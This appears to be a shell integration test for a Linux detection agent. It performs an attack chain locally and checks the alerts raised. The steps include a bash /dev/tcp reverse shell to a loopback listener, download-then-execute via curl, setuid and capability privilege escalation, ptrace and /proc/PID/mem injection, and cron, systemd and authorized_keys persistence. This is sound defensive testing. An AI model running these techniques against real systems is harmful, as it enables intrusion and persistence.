#!/bin/sh
# Integration: detection against real attack behaviour. While
# `vigil-agent detect --sensor=SENSOR --rules RULES --output json` runs, this
# script performs, for real and on this machine, each step of the reference
# attack chain (docs/RULES.md) and the persistence tricks that follow it, then
# checks with jq that the agent raised the alert Vigil's rules promise for it:
# rule id, severity and ATT&CK techniques.
#
#    step                                              rule (rules/linux/...)                        severity
#    a binary copied to /tmp, to /dev/shm, run         vigil_exec_temp_folder                        medium
#    exec from a memfd                                 vigil_exec_memfd                              high
#    exec of a file deleted after it was opened        vigil_exec_deleted_file                       high
#    a fake soffice.bin (in /tmp) starting sh          vigil_office_browser_spawns_shell             high
#    chmod 4755 / u+s on a copy in /tmp                vigil_chmod_setuid_writable_dir               high
#    that setuid-root copy run by uid 65534            vigil_setuid_root_exec_writable_dir           high
#    setcap cap_setuid+ep on a copy in /tmp            vigil_setcap_writable_dir                     high
#    that copy run by uid 65534 calling setuid(0)      vigil_root_from_unprivileged_setuid_call      high
#    LD_PRELOAD=/tmp/... on a command line             vigil_ld_preload_writable_dir                 high
#    ptrace attach and seize to a non-child            vigil_ptrace_attach_non_child                 high
#    uid 65534 with cap_sys_ptrace attaching to root   vigil_ptrace_cross_user                       high
#    strace -p (a debugger) on a non-child             vigil_debugger_attach_running_process         medium
#    process_vm_writev into another process            vigil_process_vm_write                        high
#    a write to /proc/PID/mem of another process       vigil_proc_mem_write                          high
#    bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1           vigil_reverse_shell_cmdline                   high
#      (a loopback listener of this test answers)      vigil_shell_stdio_socket                      high
#                                                      vigil_shell_network_connection                medium
#    a program named sshd in /tmp, argv[0] [kworker]   vigil_masquerade_writable_dir                 high
#    curl from a loopback HTTP server into /tmp,       the agent's built-in "File downloaded and   high
#      chmod +x, run                                   then executed" (bpf: it needs file events)
#    /etc/cron.d/vigil-test-PID written, removed       vigil_cron_file_written                       medium
#    /etc/systemd/system/vigil-test-PID.service        vigil_systemd_unit_written                    medium
#    a temp HOME's .ssh/authorized_keys (in /tmp)      vigil_authorized_keys_written                 medium
#    a temp HOME's .bashrc (in /tmp)                   vigil_shell_profile_user_written              low
#    /etc/ld.so.preload created empty, removed at      vigil_ld_so_preload_written                   high
#      once (only when the host has none)
#
# With the proc connector (cnproc) the network, file, process_vm_writev and
# /proc/PID/mem steps are invisible to the sensor and not expected; commands
# that end within microseconds (chmod, setcap) may be seen without their
# command line, so their alerts are reported, not required; a setuid(0) call
# is reported with CredCause "other".
#
# Nothing leaves the machine: the shell connects to 127.0.0.1, the download
# comes from a server on 127.0.0.1. Root's own files are not touched (the
# authorized_keys and .bashrc are in a temporary HOME). Everything is removed
# by the exit trap.
#
# The agent folds repeats of a rule on one process tree into one alert that
# keeps its first event, so each step runs in a process tree of its own.
#
# Usage: detect.sh bpf|cnproc   (env: VIGIL_AGENT, BEHAVE, VIGIL_RULES).
# Needs root (and BTF for bpf); exits 77 when it cannot run here.
set -eu

AGENT=${VIGIL_AGENT:-build/vigil-agent}
RULES=${VIGIL_RULES:-rules}
. "$(dirname "$0")/lib.sh"
per_sensor "${1:-}"
need_detect

# rule ids (the `id` of each rule file)
R_TEMP=6e8a6112-1690-4821-b64d-dda59be27afa
R_MEMFD=07e42c2d-db7c-4db7-9dfb-2215a1184a77
R_DELETED=9477cc5a-182a-4307-ae34-e4e78edf2022
R_OFFICE=50033daf-c3d0-4595-afe7-a88c108bee01
R_CHMOD=eb3f8fc0-04e8-4637-962a-5032ac6f04c7
R_SUID=63344984-c351-4808-bc7a-5160330aead8
R_SETCAP=74c6047e-c2a6-4ce6-8955-f522874dbbd0
R_SETUID_CALL=e35f2017-b167-499a-ae0d-2045adab0562
R_CRED_OTHER=47e2633f-8844-455b-b537-4392a1e46c57
R_PRELOAD=af441376-20b8-44f7-91a1-34075ee785a3
R_PTRACE=5ec4c269-edf4-487f-975e-2219704f736a
R_DEBUGGER=d10e23a1-b5b5-40a1-b50c-3cb6d9fdb44c
R_PTRACE_XUSER=39230ba1-b042-467a-b972-4b544547907d
R_VMWRITE=854cdf7c-0479-4581-8c15-9524ee49c224
R_PROCMEM=8ae800ff-63a7-46d3-8262-889d2430448a
R_REVCMD=335f7ad6-2667-4493-b954-cd0823859a21
R_STDIO=4c9f02be-322a-4dde-b67a-5a407cc9f11b
R_SHELLNET=ce52873e-ff35-4e0f-931c-23e5973a9259
R_MASQ=f822ceff-6411-461f-8606-55e657f52547
R_CRON=1ff3e0cf-d1ac-45ee-b399-9860c0757786
R_SYSTEMD=8ace499c-fa8a-419d-b74a-513ddfe2f158
R_AUTHKEYS=50841325-babd-4ffb-8b23-9f13c9a94e01
R_PROFILE_USER=95993fc6-8449-455f-b8d6-157546b44a12
R_LDSO=f64229bc-1c3e-4c79-b529-fdf56de42791
R_BUILTIN_DL=8a4c2f17-5e3b-4d6a-9c81-2b7e0f3d6a95     # agent/src/detect_builtin.h

M=vigil-detect-$$       # in every name this test gives, so that only its activity counts
# how long the payloads live: the proc connector reads a process's image and
# arguments from /proc after the fact, so they must still be there
if [ "$SENSOR" = bpf ]; then MS=300; else MS=1000; fi
CRON_FILE=/etc/cron.d/vigil-test-$$
UNIT_FILE=/etc/systemd/system/vigil-test-$$.service
SHM_FILE=/dev/shm/$M
LDSO_CREATED=""
PRIV_DIR=""
make_temp detect
chmod 755 "$T"          # uid 65534 runs the setuid and capability copies from here
AL=$T/alerts.jsonl      # what the agent printed
cleanup() {
    end_processes
    rm -f "$CRON_FILE" "$UNIT_FILE" "$SHM_FILE"
    [ -n "$LDSO_CREATED" ] && rm -f /etc/ld.so.preload
    [ -n "$PRIV_DIR" ] && [ "$PRIV_DIR" != "$T" ] && rm -rf "$PRIV_DIR"
    remove_temp
}

# The alert's fields (docs/DETECTION.md): rule_id, title, source ("sigma" or
# "builtin"), severity, techniques ["T1059.004"], tactics, process, ancestors,
# event (the event that opened the alert), evidence (built-in detectors).
jq_defs='
def rid: .rule_id // "";
def sev: .severity // "";
def title: .title // "";
def techs: .techniques // [];
def brief: "\(sev) \(rid) \"\(title)\" [\(techs | join(","))] \(.change // "") "
           + ((.event // {}) | "\(.EventType // "") \(.Image // "") \(.CommandLine // .TargetFilename // "" | tostring | .[0:160])");
'

fail() {
    echo "FAIL ($SENSOR): $*" >&2
    echo "--- agent log" >&2
    tail -n 40 "$T/agent.log" >&2 || true
    echo "--- alerts about this test ($T, $M)" >&2
    grep -F -e "$T" -e "$M" -e "$HELPER" -e "vigil-test-$$" -e /etc/ld.so.preload "$AL" | jq -r "$jq_defs brief" >&2 || true
    echo "--- first alert as printed" >&2
    head -n 1 "$AL" >&2 || true
    exit 1
}

# find RULE SEVERITY TECHS TEXT: the alerts of rule RULE at SEVERITY whose
# techniques include every one of TECHS (comma-separated) and whose text has TEXT.
find_alerts() {
    jq -c --arg r "$1" --arg s "$2" --arg t "$3" --arg m "$4" "$jq_defs"'
        select(rid == $r and sev == $s and (tostring | contains($m))
               and (techs as $have | ($t | split(",")) | all(. as $w | $have | any(. == $w))))' "$AL"
}

# expect WHAT RULE SEVERITY TECHS TEXT
expect() {
    n=$(find_alerts "$2" "$3" "$4" "$5" | wc -l) || fail "jq failed on: $1"
    if [ "$n" -eq 0 ]; then
        other=$(jq -r --arg m "$5" "$jq_defs"' select(tostring | contains($m)) | brief' "$AL" | head -n 5)
        fail "no $3 alert of rule $2 ($4) for: $1${other:+
  alerts that name '$5':
$other}"
    fi
    echo "ok: $1: $3 $2 [$4]"
}

# maybe WHAT RULE SEVERITY TECHS TEXT: reported, not required (cnproc).
maybe() {
    if [ "$(find_alerts "$2" "$3" "$4" "$5" | wc -l)" -gt 0 ]; then
        echo "ok: $1: $3 $2 [$4]"
    else
        echo "note: $1: no alert (the $SENSOR sensor may miss it)"
    fi
}

# --- the rules load (when this agent has scan-rules)
scan_out=$("$AGENT" scan-rules "$RULES" 2>&1) && scan_rc=0 || scan_rc=$?
case $scan_out in
*"unknown command"*) echo "note: no scan-rules command" ;;
*) [ "$scan_rc" -eq 0 ] || { echo "$scan_out" >&2; fail "scan-rules $RULES exited $scan_rc"; }
   echo "$scan_out" | tail -n 5 ;;
esac

# --- start the agent and wait until its sensor runs
mkdir -p "$T/home/.ssh" "$T/rshome" "$T/office" "$T/www" "$T/dl"
for name in payload end-marker sshd kworker-argv0; do
    cp "$HELPER" "$T/$name"
done
# the default watch list of detect: the sensor's (/etc/, cron, systemd units,
# authorized_keys, ld.so.preload, profiles) and /tmp/, /var/tmp/, /dev/shm/,
# where the built-in detector sees downloads land and $T/home lies
start_agent "$AL" 30 detect --sensor="$SENSOR" --rules "$RULES" --output json
grep "running" "$T/agent.log" | tail -n 1

# (each step runs in a process tree of its own, to get an alert of its own:
# see tree in lib.sh)

# --- execution from temporary folders, from memory, from a deleted file
tree "$T/payload" sleep-ms $MS
cp "$HELPER" "$SHM_FILE"
tree "$SHM_FILE" sleep-ms $MS
rm -f "$SHM_FILE"
tree "$HELPER" memfd-exec "$M-memfd" $MS
tree "$HELPER" deleted-exec "$T/deleted-$M" $MS

# --- a document opened in the office suite starts a shell that runs the payload
cp "$HELPER" "$T/office/soffice.bin"
tree "$T/office/soffice.bin" spawn /bin/sh -c "echo $M-office >/dev/null; $T/payload sleep-ms $MS"

# --- masquerading: a daemon's name in /tmp, a kernel thread's name as argv[0]
tree "$T/sshd" sleep-ms $MS
tree bash -c "exec -a '[kworker/0:$M]' '$T/kworker-argv0' sleep-ms $MS"

# --- privilege escalation through a setuid-root and a cap_setuid copy, run by
# uid 65534 from a folder that is not mounted nosuid
for d in "$T" "/var/tmp"; do
    if ! findmnt -n -o OPTIONS --target "$d" | grep -qw nosuid; then
        if [ "$d" = "$T" ]; then PRIV_DIR=$T; else PRIV_DIR=$(mktemp -d "$d/$M-XXXXXX"); chmod 755 "$PRIV_DIR"; fi
        break
    fi
done
SUID_OUT="" CAP_OUT=""
if [ "$SENSOR" = bpf ]; then check=expect; else check=maybe; fi
if [ -z "$PRIV_DIR" ] || ! command -v setpriv >/dev/null; then
    echo "note: no setpriv or only nosuid temporary folders: the setuid and capability steps are not run"
else
    cp "$HELPER" "$PRIV_DIR/suid-$M"
    tree chmod 4755 "$PRIV_DIR/suid-$M"
    SUID_OUT=$(tree setpriv --reuid=65534 --regid=65534 --clear-groups "$PRIV_DIR/suid-$M" suid-root) ||
        fail "the setuid copy failed: $SUID_OUT"
    [ "$(echo "$SUID_OUT" | head -n 1)" = "uid=65534 euid=0" ] || fail "the setuid copy did not run with euid 0: $SUID_OUT"
    cp "$HELPER" "$PRIV_DIR/suid2-$M"
    tree chmod u+s "$PRIV_DIR/suid2-$M"
    if command -v setcap >/dev/null; then
        cp "$HELPER" "$PRIV_DIR/capcopy-$M"
        tree setcap cap_setuid+ep "$PRIV_DIR/capcopy-$M"
        CAP_OUT=$(tree setpriv --reuid=65534 --regid=65534 --clear-groups "$PRIV_DIR/capcopy-$M" suid-root) ||
            fail "the cap_setuid copy failed: $CAP_OUT"
        [ "$(echo "$CAP_OUT" | tail -n 1)" = "uid=0 euid=0" ] || fail "the cap_setuid copy did not become root: $CAP_OUT"
    else
        echo "note: no setcap: the capability step is not run"
    fi
fi

# --- a library preloaded from /tmp (the shell lives while the payload runs, so
# that a sensor reading /proc finds its command line)
tree sh -c "LD_PRELOAD=$T/lib$M.so $T/payload sleep-ms $MS; true" 2>/dev/null

# --- code injection: ptrace attach and seize to a process that is not the
# tracer's child, a debugger on it, process_vm_writev, /proc/PID/mem
sleep 60 &
TARGET=$!
BG_PIDS="$BG_PIDS $TARGET"
sleep 0.3
tree "$HELPER" ptrace-attach "$TARGET" $MS
tree "$HELPER" ptrace-seize "$TARGET" $MS
# uid 65534 with cap_sys_ptrace (a file capability) attaching to root's process
PTRACER=""
if [ -n "$PRIV_DIR" ] && command -v setpriv >/dev/null && command -v setcap >/dev/null; then
    cp "$HELPER" "$PRIV_DIR/ptracer-$M"
    tree setcap cap_sys_ptrace+ep "$PRIV_DIR/ptracer-$M"
    tree setpriv --reuid=65534 --regid=65534 --clear-groups "$PRIV_DIR/ptracer-$M" ptrace-attach "$TARGET" $MS ||
        fail "uid 65534 with cap_sys_ptrace could not attach to root's process"
    PTRACER=$PRIV_DIR/ptracer-$M
fi
STRACED=""
if command -v strace >/dev/null; then
    tree timeout -s INT 1 strace -p "$TARGET" -o /dev/null 2>/dev/null || true
    STRACED=1
fi
kill "$TARGET" 2>/dev/null || true
tree "$HELPER" vm-write >/dev/null || fail "vm-write failed"
tree "$HELPER" proc-mem-write >/dev/null || fail "proc-mem-write failed"

# --- a reverse shell: bash -i with its stdio on a TCP connection to a
# listener of this test on 127.0.0.1; HOME is empty so that no .bashrc runs
start_listener "$M"
tree env HOME="$T/rshome" bash -c "bash -i >& /dev/tcp/127.0.0.1/$PORT 0>&1" 2>/dev/null || fail "the reverse shell failed"
wait "$LISTENER" || fail "the listener failed"
grep -q "$M-ok" "$T/listen.out" || fail "the reverse shell did not answer"

# --- downloaded from a (loopback) web server into /tmp, made executable, run
DL=""
if command -v python3 >/dev/null && command -v curl >/dev/null; then
    cp "$HELPER" "$T/www/payload"
    start_httpd "$T/www"
    DL=$T/dl/payload-$M
    tree curl -sSf -o "$DL" "http://127.0.0.1:$HPORT/payload" || fail "the download failed"
    chmod +x "$DL"
    tree "$DL" sleep-ms $MS
    kill "$HTTPD" 2>/dev/null || true
else
    echo "note: no python3 or curl: the download-then-execute step is not run"
fi

# --- persistence: a cron file, a systemd unit (both removed at once), and in
# a temporary HOME an authorized_keys and a .bashrc
tree sh -c 'echo "# $1: written and removed by Vigil detect.sh" >"$2"' sh "$M" "$CRON_FILE"
rm -f "$CRON_FILE"
tree sh -c 'printf "# %s: written and removed by Vigil detect.sh\n[Unit]\nDescription=vigil test\n" "$1" >"$2"' sh "$M" "$UNIT_FILE"
rm -f "$UNIT_FILE"
tree sh -c 'echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIVigilTestKeyNotReal $1" >>"$2"' sh "$M" "$T/home/.ssh/authorized_keys"
tree sh -c 'echo "# $1" >>"$2"' sh "$M" "$T/home/.bashrc"
# /etc/ld.so.preload: only when the host has none; created empty (an empty
# file changes nothing) and removed right away
LDSO=""
if [ ! -e /etc/ld.so.preload ]; then
    LDSO_CREATED=1
    tree sh -c ': >/etc/ld.so.preload'
    rm -f /etc/ld.so.preload
    LDSO_CREATED=""
    LDSO=1
else
    echo "note: /etc/ld.so.preload exists on this host: that step is not run"
fi

# --- stop the agent once it has reported everything above: a last program
# run from /tmp raises an alert; once it is printed, so is all that came before
tree "$T/end-marker" sleep-ms $MS
await_output "the end marker" -F "$T/end-marker"
stop_agent

echo "--- alerts about this test"
grep -F -e "$T" -e "$M" -e "$HELPER" -e "vigil-test-$$" -e /etc/ld.so.preload "$AL" | jq -r "$jq_defs brief" || true
echo "---"

# --- checks
expect "binary run from /tmp" $R_TEMP medium T1204.002 "$T/payload"
expect "binary run from /dev/shm" $R_TEMP medium T1204.002 "$SHM_FILE"
expect "exec from a memfd" $R_MEMFD high T1620 "/memfd:$M-memfd"
expect "exec of a deleted file" $R_DELETED high T1620 "$T/deleted-$M"
expect "office process starting a shell" $R_OFFICE high T1204.002,T1059.004 "$M-office"
expect "daemon name in /tmp" $R_MASQ high T1036.005 "$T/sshd"
expect "kernel-thread argv[0]" $R_MASQ high T1036.004 "[kworker/0:$M]"
expect "LD_PRELOAD from /tmp" $R_PRELOAD high T1574.006 "LD_PRELOAD=$T/lib$M.so"
if [ -n "$SUID_OUT" ]; then
    expect "setuid-root copy run by uid 65534" $R_SUID high T1548.001 "$PRIV_DIR/suid-$M"
    $check "chmod 4755 in a writable folder" $R_CHMOD high T1548.001 "chmod 4755 $PRIV_DIR/suid-$M"
    $check "chmod u+s in a writable folder" $R_CHMOD high T1548.001 "chmod u+s $PRIV_DIR/suid2-$M"
fi
if [ -n "$CAP_OUT" ]; then
    $check "setcap cap_setuid+ep in a writable folder" $R_SETCAP high T1548.001 "$PRIV_DIR/capcopy-$M"
    # (the proc connector reports the setuid call with CredCause "other"; the rule takes that)
    expect "uid 65534 becoming root through setuid(0) with cap_setuid" $R_SETUID_CALL high T1548.001 "$PRIV_DIR/capcopy-$M"
    [ "$(find_alerts $R_CRED_OTHER high T1068 "$PRIV_DIR/capcopy-$M" | wc -l)" -eq 0 ] ||
        fail "the setuid(0) call was also reported as a kernel-level credential change"
fi
expect "ptrace attach to a non-child" $R_PTRACE high T1055.008 "ptrace-attach $TARGET"
if [ "$SENSOR" = bpf ]; then
    expect "ptrace seize to a non-child" $R_PTRACE high T1055.008 "ptrace-seize $TARGET"
else
    # the proc connector reports a seize as an attach only once the tracee stops
    maybe "ptrace seize to a non-child" $R_PTRACE high T1055.008 "ptrace-seize $TARGET"
fi
[ -z "$PTRACER" ] || $check "uid 65534 tracing root's process" $R_PTRACE_XUSER high T1055.008 "$PTRACER ptrace-attach"
[ -z "$STRACED" ] || expect "strace -p on a non-child" $R_DEBUGGER medium T1055.008 "strace -p $TARGET"
expect "reverse shell: bash's /dev/tcp command line" $R_REVCMD high T1059.004,T1071,T1095 "/dev/tcp/127.0.0.1/$PORT"
# (the alert names its parent, bash -c "bash -i >& /dev/tcp/...")
expect "reverse shell: bash -i with stdin and stdout on a socket" $R_STDIO high T1059.004,T1059.006,T1071,T1095 "/dev/tcp/127.0.0.1/$PORT"
if [ -n "$DL" ]; then
    # the built-in detector joins the file write (a file event: bpf only) to the exec
    n=$(jq -c --arg f "$DL" --arg r "$R_BUILTIN_DL" "$jq_defs"'
        select(rid == $r and .source == "builtin" and sev == "high" and .evidence.TargetFilename == $f
               and .process.image == $f)' "$AL" | wc -l)
    if [ "$n" -gt 0 ]; then
        echo "ok: downloaded then executed: high $R_BUILTIN_DL (built-in)"
    elif [ "$SENSOR" = bpf ]; then
        fail "no alert of the built-in download-then-execute detector ($R_BUILTIN_DL) for $DL"
    else
        echo "note: downloaded then executed: no built-in alert (the proc connector sees no file writes)"
    fi
    expect "downloaded payload run from /tmp" $R_TEMP medium T1204.002 "$DL"
fi
if [ "$SENSOR" = bpf ]; then
    expect "process_vm_writev into another process" $R_VMWRITE high T1055 "${HELPER##*/} vm-write"
    expect "write to /proc/PID/mem of another process" $R_PROCMEM high T1055.009 "${HELPER##*/} proc-mem-write"
    expect "reverse shell: bash connecting out" $R_SHELLNET medium T1059.004,T1095 "/dev/tcp/127.0.0.1/$PORT"
    expect "cron file written" $R_CRON medium T1053.003 "$CRON_FILE"
    expect "systemd unit written" $R_SYSTEMD medium T1543.002 "$UNIT_FILE"
    expect "authorized_keys written" $R_AUTHKEYS medium T1098.004 "$T/home/.ssh/authorized_keys"
    expect "user shell profile written" $R_PROFILE_USER low T1546.004 "$T/home/.bashrc"
    [ -z "$LDSO" ] || expect "/etc/ld.so.preload created" $R_LDSO high T1574.006 "/etc/ld.so.preload"
else
    # what the proc connector cannot see must not be alerted on
    for r in $R_VMWRITE $R_PROCMEM $R_SHELLNET $R_CRON $R_SYSTEMD $R_AUTHKEYS $R_PROFILE_USER $R_LDSO; do
        [ "$(jq -c --arg r "$r" --arg m "$M" "$jq_defs"' select(rid == $r and (tostring | contains($m)))' "$AL" | wc -l)" -eq 0 ] ||
            fail "an alert of rule $r that the cnproc sensor cannot see the cause of"
    done
    echo "ok: no alerts from events the proc connector cannot see"
fi

echo "PASS ($SENSOR): $(wc -l <"$AL") alerts, $(grep -c -F -e "$T" -e "$M" -e "$HELPER" -e "vigil-test-$$" -e /etc/ld.so.preload "$AL") about this test"
